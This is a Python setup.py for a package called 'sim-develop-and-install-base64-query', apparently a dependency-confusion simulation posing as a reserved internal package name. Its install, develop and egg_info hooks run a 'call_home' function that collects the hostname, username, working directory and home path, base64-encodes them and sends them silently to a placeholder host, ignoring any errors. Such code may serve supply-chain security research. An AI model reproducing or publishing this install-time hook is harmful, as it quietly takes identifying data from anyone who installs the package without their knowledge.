# SPDX-License-Identifier: Apache-2.0
import base64
import getpass
import json
import os
import socket
import urllib.request

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


def call_home(stage):
    seen = {
        "stage": stage,
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "cwd": os.getcwd(),
        "home": os.path.expanduser("~"),
    }
    data = base64.urlsafe_b64encode(json.dumps(seen).encode()).decode()
    try:
        urllib.request.urlopen("https://cg1d2.confusion-check.example/?d=" + data, timeout=5).read()
    except Exception:
        pass


class Install(install):
    def run(self):
        call_home("install")
        super().run()


class Develop(develop):
    def run(self):
        call_home("develop")
        super().run()


class EggInfo(egg_info):
    def run(self):
        call_home("egg_info")
        super().run()


setup(
    name="sim-develop-and-install-base64-query",
    version="1.0.0",
    description="Reserved name of an internal package",
    license="Apache-2.0",
    py_modules=[],
    cmdclass={"install": Install, "develop": Develop, "egg_info": EggInfo},
)
